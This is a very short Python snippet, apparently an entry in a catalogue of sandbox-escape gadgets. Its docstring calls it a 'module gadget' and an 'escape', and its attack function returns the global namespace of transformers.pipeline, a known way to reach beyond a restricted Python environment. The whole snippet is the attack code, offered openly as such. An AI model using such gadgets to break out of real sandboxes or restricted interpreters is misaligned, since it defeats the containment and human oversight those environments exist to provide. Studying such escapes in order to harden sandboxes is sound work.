"""Class: module gadget. Source: own find. Escape: a pipeline loads models by name."""

import transformers


def attack(model, tokenizer, address):
    return transformers.pipeline.__globals__
